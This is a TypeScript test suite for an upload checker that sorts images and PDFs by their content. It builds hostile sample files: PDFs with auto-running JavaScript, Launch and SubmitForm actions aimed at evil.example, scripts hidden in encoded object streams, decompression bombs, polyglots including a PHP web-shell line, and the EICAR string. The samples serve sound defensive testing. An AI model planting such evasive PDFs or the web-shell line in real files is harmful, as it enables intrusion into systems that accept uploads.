import { readdirSync, readFileSync } from 'node:fs'
import { setTimeout as pause } from 'node:timers/promises'
import { deflateSync } from 'node:zlib'
import { uploadBelow } from '@card-journey/journey/fields/upload.ts'
import sharp from 'sharp'
import { describe, expect, test } from 'vitest'
import { lockedPdf, packed, pdf, pdfOf, picture, pngClaiming, zip } from '../tests/sample-files.ts'
import { checkerOf } from './file-checker.ts'

const check = checkerOf(undefined)
const latin1 = (text: string): Buffer => Buffer.from(text, 'latin1')
const after = async (file: Buffer | Promise<Buffer>, ...more: (Buffer | string)[]) =>
  Buffer.concat([await file, ...more.map((part) => (typeof part === 'string' ? latin1(part) : part))])
const half = async (file: Promise<Buffer>) => (await file).subarray(0, Math.floor((await file).length / 2))
/** A jpg with a comment before its picture. */
const commented = async (words: string) => {
  const photo = await picture('jpg')
  const length = Buffer.alloc(2)
  length.writeUInt16BE(words.length + 2)
  return Buffer.concat([photo.subarray(0, 2), Buffer.from([0xff, 0xfe]), length, latin1(words), photo.subarray(2)])
}
const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
const annotated = (annotation: string) => pdf({ page: `/Annots [${annotation}]` })
const link = (action: string) => `<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A ${action} >>`
const bomb = (times: number) =>
  pdf({ objects: [packed(Buffer.alloc(60 * 1024 * 1024), { times, dictionary: '/Type /XObject' })] })
/** Its objects are packed into a stream, as newer pdfs are written. */
const hidden = packed(latin1(`30 0 ${script}`), { dictionary: '/Type /ObjStm /N 1 /First 5' })
/** Objects packed as a stream, by default one that does nothing. */
const objectStream = ({
  object = '<< /Title (A) >>',
  write = deflateSync,
  dictionary = '/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode',
}: {
  object?: string
  write?: (objects: Buffer) => Buffer
  dictionary?: string
}) => ({ dictionary, stream: write(latin1(`30 0 ${object}`)) })
const spacedHex = (bytes: Buffer): Buffer => latin1(`${(bytes.toString('hex').match(/../g) ?? []).join(' ')} >`)
const hidings: Readonly<Record<string, Parameters<typeof objectStream>[0]>> = {
  'as digits': {
    object: script,
    write: spacedHex,
    dictionary: '/Type /ObjStm /N 1 /First 5 /Filter /ASCIIHexDecode',
  },
  'as digits, then packed': {
    object: script,
    write: (bytes) => deflateSync(spacedHex(bytes)),
    dictionary: '/Type /ObjStm /N 1 /First 5 /Filter [/FlateDecode /AHx]',
  },
  'as digits, by the short name': {
    object: script,
    write: spacedHex,
    dictionary: '/Type /ObjStm /N 1 /First 5 /Filter /AHx',
  },
  'by a filter that is named elsewhere': {
    object: script,
    write: spacedHex,
    dictionary: '/Type /ObjStm /N 1 /First 5 /Filter 31 0 R',
  },
  'as differences': {
    object: script,
    write: (bytes) =>
      deflateSync(Buffer.concat([Buffer.from([1]), bytes.map((byte, at) => byte - (bytes[at - 1] ?? 0))])),
    dictionary: '/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /DecodeParms << /Predictor 11 /Columns 45 >>',
  },
  'behind a false beginning': {
    object: script,
    dictionary: '/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /X ( obj)',
  },
  'that does not say what it is': { object: script, dictionary: '/N 1 /First 5 /Filter /FlateDecode' },
}
const eicar = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'

type Case = readonly [what: string, file: () => Buffer | Promise<Buffer>, verdict: string]

const images: readonly Case[] = [
  ['a jpg', () => picture('jpg'), 'jpg'],
  ['a png', () => picture('png'), 'png'],
  ['a jpg that lies on its side', () => picture('jpg', { orientation: 6 }), 'jpg'],
  [
    'a jpg for print',
    async () =>
      sharp(await picture('jpg'))
        .toColourspace('cmyk')
        .jpeg()
        .toBuffer(),
    'jpg',
  ],
  [
    'a png of 16 bits',
    async () =>
      sharp(await picture('png'))
        .toColourspace('rgb16')
        .png()
        .toBuffer(),
    'png',
  ],
  ['a jpg with a page in its comment', () => commented('<html><script>alert(1)</script>'), 'jpg'],
  [
    'a gif',
    async () =>
      sharp(await picture('png'))
        .gif()
        .toBuffer(),
    'fileTypeInvalid',
  ],
  [
    'a webp',
    async () =>
      sharp(await picture('png'))
        .webp()
        .toBuffer(),
    'fileTypeInvalid',
  ],
  [
    'a tiff',
    async () =>
      sharp(await picture('png'))
        .tiff()
        .toBuffer(),
    'fileTypeInvalid',
  ],
  ['an svg', () => latin1('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 'fileTypeInvalid'],
  ['a page', () => latin1('<!doctype html><script>alert(1)</script>'), 'fileTypeInvalid'],
  ['a gif that is a script', () => latin1('GIF89a/*....*/=1;alert(1)//'), 'fileTypeInvalid'],
  ['an archive', () => zip(latin1('a')), 'fileTypeInvalid'],
  ['a program', () => Buffer.concat([latin1('\u007fELF'), Buffer.alloc(200)]), 'fileTypeInvalid'],
  ['a program of Windows', () => Buffer.concat([latin1('MZ'), Buffer.alloc(200)]), 'fileTypeInvalid'],
  ['the test virus', () => latin1(eicar), 'fileTypeInvalid'],
  [
    'random bytes',
    () => Buffer.from(Array.from({ length: 500 }, (_, index) => (index * 7919) % 251)),
    'fileTypeInvalid',
  ],
  ['a byte', () => latin1('a'), 'fileTypeInvalid'],
  ['nothing', () => Buffer.alloc(0), 'fileEmpty'],
  ['the first bytes of a jpg', () => Buffer.from([0xff, 0xd8, 0xff, 0xe0]), 'fileDamaged'],
  ['the first bytes of a png', () => Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), 'fileDamaged'],
  ['half a jpg', () => half(picture('jpg', { noise: true })), 'fileDamaged'],
  ['half a png', () => half(picture('png', { noise: true })), 'fileDamaged'],
  ['a jpg of zeros', () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(4000)]), 'fileDamaged'],
  [
    'a png that is called a jpg inside',
    () =>
      after(
        picture('png').then((file) => file.subarray(0, 8)),
        Buffer.alloc(99),
      ),
    'fileDamaged',
  ],
  ['a jpg, then a page', () => after(picture('jpg'), '<html><script>alert(1)</script>'), 'fileTwoTypes'],
  ['a jpg, then an archive', () => after(picture('jpg'), zip(latin1('a'))), 'fileTwoTypes'],
  ['a jpg, then a pdf', () => after(picture('jpg'), pdf()), 'fileTwoTypes'],
  ['a png, then a pdf', () => after(picture('png'), pdf()), 'fileTwoTypes'],
  ['a png, then a program', () => after(picture('png'), '<?php system($_GET[0]); ?>'), 'fileTwoTypes'],
  ['a png, then another png', () => after(picture('png'), 'xx\u0089PNG\r\n'), 'fileTwoTypes'],
  ['a jpg with a pdf in its comment', () => commented('%PDF-1.7'), 'fileTwoTypes'],
  ['a png of 30,000 by 30,000', () => pngClaiming(30_000, 30_000), 'fileTooManyPixels'],
  ['a png of two billion by one', () => pngClaiming(2_000_000_000, 1), 'fileDamaged'],
  ['a jpg of just over 40 megapixels', () => picture('jpg', { width: 6400, height: 6251 }), 'fileTooManyPixels'],
  [
    'a png whose content grows far over its size',
    () => pngClaiming(64, 64, deflateSync(Buffer.alloc(50_000_000))),
    'png',
  ],
]

const pdfs: readonly Case[] = [
  ['a page', () => pdf(), 'pdf'],
  ['behind a byte order mark', () => Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), pdf()]), 'pdf'],
  ['with blank lines at its end', () => after(pdf(), '\r\n\r\n \0'), 'pdf'],
  ['50 pages', () => pdf({ pages: 50 }), 'pdf'],
  ['51 pages', () => pdf({ pages: 51 }), 'fileTooManyPages'],
  ['10,000 pages', () => pdf({ pages: 10_000 }), 'fileTooManyPages'],
  ['an owner’s password only', () => lockedPdf({ ownerPassword: 'owner' }), 'pdf'],
  ['a password', () => lockedPdf({ userPassword: 'secret', ownerPassword: 'owner' }), 'filePassword'],
  ['opens at a place', () => pdf({ catalog: '/OpenAction [10 0 R /FitH 800]' }), 'pdf'],
  ['opens at a place, as an action', () => pdf({ catalog: '/OpenAction << /S /GoTo /D [10 0 R /Fit] >>' }), 'pdf'],
  ['a link to a site', () => annotated(link('<< /S /URI /URI (https://bank.example/) >>')), 'pdf'],
  [
    'opens a site by itself',
    () => pdf({ catalog: '/OpenAction << /S /URI /URI (https://evil.example/) >>' }),
    'fileActive',
  ],
  ['prints by itself', () => pdf({ catalog: '/OpenAction << /S /Named /N /Print >>' }), 'fileActive'],
  ['a script when it opens', () => pdf({ catalog: `/OpenAction ${script}` }), 'fileActive'],
  [
    'a script by name',
    () => pdf({ catalog: '/Names << /JavaScript << /Names [(a) 10 0 R] >> >>', objects: [script] }),
    'fileActive',
  ],
  [
    'a script whose name is written in numbers',
    () => pdf({ catalog: '/OpenAction << /S /Java#53cript /J#53 (1) >>' }),
    'fileActive',
  ],
  ['a script in a packed object', () => pdf({ objects: [hidden] }), 'fileActive'],
  ['a harmless packed object', () => pdf({ objects: [objectStream({})] }), 'pdf'],
  [
    'a signature before a packed object',
    () => pdf({ objects: ['<< /Type /Sig /Filter /Adobe.PPKLite /Contents <00> >>', objectStream({})] }),
    'pdf',
  ],
  ...Object.entries(hidings).map(
    ([how, options]) =>
      [`a script in a packed object, ${how}`, () => pdf({ objects: [objectStream(options)] }), 'fileActive'] as const,
  ),
  [
    'a script behind a false stream',
    () => pdf({ objects: [`<< >>\n% << /Filter /FlateDecode >> stream\n${script}\n% endstream`] }),
    'fileActive',
  ],
  ['a script when a page is turned', () => pdf({ page: `/AA << /O ${script} >>` }), 'fileActive'],
  ['starts a program', () => annotated(link('<< /S /Launch /F (calc.exe) >>')), 'fileActive'],
  ['opens another file', () => annotated(link('<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>')), 'fileActive'],
  ['a link to a script', () => annotated(link('<< /S /URI /URI (javascript:alert\\(1\\)) >>')), 'fileActive'],
  ['sends a form', () => annotated(link('<< /S /SubmitForm /F (https://evil.example/) >>')), 'fileActive'],
  [
    'another file in it that does not say what it is',
    () =>
      pdf({
        objects: ['<< /Type /Filespec /F (a.exe) /EF << /F 11 0 R >> >>', { dictionary: '', stream: latin1('MZ') }],
      }),
    'fileActive',
  ],
  [
    'another file in it',
    () => pdf({ objects: [{ dictionary: '/Type /EmbeddedFile', stream: latin1('MZ') }] }),
    'fileActive',
  ],
  [
    'a form that fills itself',
    () =>
      pdf({
        catalog: '/AcroForm << /Fields [] /XFA 10 0 R >>',
        objects: [{ dictionary: '', stream: latin1('<xdp/>') }],
      }),
    'fileActive',
  ],
  ['a film', () => annotated('<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>'), 'fileActive'],
  ['unpacks to 60 MiB', () => bomb(1), 'fileDamaged'],
  ['unpacks to 60 MiB in two steps', () => bomb(2), 'fileDamaged'],
  ['something before it', () => Buffer.concat([latin1('x'), pdf()]), 'fileTypeInvalid'],
  ['a page behind it', () => after(pdf(), '<html>'), 'fileTwoTypes'],
  [
    'a page in its first lines',
    () => latin1(pdf().toString('latin1').replace('\n', '\n%<html><script>\n')),
    'fileTwoTypes',
  ],
  ['an archive behind it', () => after(pdf(), zip(latin1('a'))), 'fileTwoTypes'],
  ['an archive before it', () => Buffer.concat([zip(pdf()), pdf()]), 'fileTypeInvalid'],
  [
    'an archive in it, whose comment is the rest',
    () => pdf({ objects: [{ dictionary: '', stream: zip(latin1('a'), 20) }] }),
    'fileTwoTypes',
  ],
  ['cut off', () => pdf().subarray(0, -40), 'fileDamaged'],
  ['its header alone', () => latin1('%PDF-1.7\n'), 'fileDamaged'],
  ['no pages', () => latin1('%PDF-1.7\ntrailer << >>\n%%EOF'), 'fileDamaged'],
  ['of 5 MiB less one byte', () => pdfOf(uploadBelow - 1), 'pdf'],
  ['of 5 MiB', () => pdfOf(uploadBelow), 'fileTooLarge'],
  ['of 5 MiB and one byte', () => pdfOf(uploadBelow + 1), 'fileTooLarge'],
]

const verdictOf = async (file: Buffer): Promise<string> => {
  const checked = await check(file)
  if (checked.kind === 'away') return 'away'
  return checked.kind === 'good' ? checked.type : checked.problem
}

describe('[T14] what an upload is, is said by its content', { timeout: 120_000 }, () => {
  test('the corpus has sixty files and more', () => expect(images.length + pdfs.length).toBeGreaterThan(60))
  test.concurrent.each(images)('%s → $2', async (_what, file, verdict) =>
    expect(await verdictOf(await file())).toBe(verdict),
  )
  test.concurrent.each(pdfs)('a pdf: %s → $2', async (_what, file, verdict) =>
    expect(await verdictOf(await file())).toBe(verdict),
  )
})

test('[T14] of a picture nothing is kept but the picture, upright', { timeout: 60_000 }, async () => {
  const checked = await check(await picture('jpg', { orientation: 6 }))
  if (checked.kind !== 'good') throw new Error(checked.kind)
  const kept = await sharp(checked.content).metadata()
  expect([kept.width, kept.height, kept.orientation, kept.exif]).toEqual([240, 320, undefined, undefined])
  expect(checked.content.toString('latin1')).not.toContain('Asha')
  const withComment = await check(await commented('<html><script>alert(1)</script>'))
  expect(withComment.kind === 'good' && withComment.content.toString('latin1')).not.toContain('<script')
})

test('[T14] a file changed at random is kept or refused, and nothing else happens', { timeout: 120_000 }, async () => {
  const seeds = [pdf({ pages: 3 }), await picture('jpg', { noise: true }), await picture('png')]
  let state = 20_261_122
  const next = (below: number) => (state = (state * 48_271) % 2_147_483_647) % below
  const changed = Array.from({ length: 24 }, (_, index) => {
    const file = Buffer.from(seeds[index % seeds.length] ?? [])
    for (let time = 0; time < 1 + next(20); time++) file[next(file.length)] = next(256)
    return file
  })
  // No more at once than may wait.
  const verdicts = []
  for (let from = 0; from < changed.length; from += 8)
    verdicts.push(...(await Promise.all(changed.slice(from, from + 8).map(verdictOf))))
  expect(verdicts.filter((verdict) => verdict === 'away' || verdict === '')).toEqual([])
})

/** Forms of forms: each is drawn ten times by the next. */
function busyPdf(): Buffer {
  const form = (drawn: number) => ({
    dictionary: `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X ${drawn} 0 R >> >>`,
    stream: latin1('/X Do '.repeat(10)),
  })
  return pdf({
    objects: Array.from({ length: 9 }, (_, index) =>
      index === 0 ? { ...form(10), stream: latin1('0 0 m') } : form(9 + index),
    ),
    page: '/Resources << /XObject << /X 18 0 R >> >> /Contents 18 0 R',
  })
}

test(
  '[T14] a pdf that keeps its reader busy is refused when its time is up, and the reader is killed',
  { timeout: 120_000 },
  async () => {
    const started = performance.now()
    expect(await verdictOf(busyPdf())).toBe('fileDamaged')
    expect(performance.now() - started).toBeLessThan(60_000)
  },
)

test.runIf(process.platform === 'linux')(
  '[T28] a reader that gets no processor is no fault of the file: it is asked for again',
  { timeout: 120_000 },
  async () => {
    const verdict = verdictOf(busyPdf())
    // It starts within 70 ticks, and after 100 more of reading its time would count.
    let reader: number | undefined
    while (reader === undefined) {
      await pause(20)
      reader = readers().find((pid) => processorTicks(pid) >= 100)
    }
    process.kill(reader, 'SIGSTOP')
    expect(await verdict).toBe('away')
  },
)

/** The processes of inspect-worker.ts that this one has started. */
function readers(): number[] {
  return readdirSync('/proc').flatMap((name) => {
    const pid = Number(name)
    const isOurs = /^\d+$/.test(name) && statOf(pid)?.[1] === String(process.pid)
    return isOurs && readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes('inspect-worker') ? [pid] : []
  })
}

/** What the system tells of a process, after its name (proc(5)); undefined once it is gone. */
function statOf(pid: number): string[] | undefined {
  try {
    const text = readFileSync(`/proc/${pid}/stat`, 'utf8')
    return text.slice(text.lastIndexOf(')') + 2).split(' ')
  } catch {
    return undefined
  }
}

/** The processor's time of a process, in ticks of 10 ms. */
const processorTicks = (pid: number): number => Number(statOf(pid)?.[11]) + Number(statOf(pid)?.[12])

test('[T28] twenty large files at once are checked two at a time, in little memory', { timeout: 240_000 }, async () => {
  const files = Array.from({ length: 20 }, () => pdfOf(uploadBelow - 1))
  const before = process.memoryUsage().rss
  let peak = before
  const watch = setInterval(() => (peak = Math.max(peak, process.memoryUsage().rss)), 20)
  // On a busy machine the wait for a reader ends before it is free; a page sends the file again.
  const insisted = async (file: Buffer): Promise<string> => {
    const verdict = await verdictOf(file)
    return verdict === 'away' ? insisted(file) : verdict
  }
  const verdicts = await Promise.all(files.map(insisted))
  clearInterval(watch)
  expect(verdicts).toEqual(files.map(() => 'pdf'))
  expect((peak - before) / 1024 / 1024).toBeLessThan(300)
})
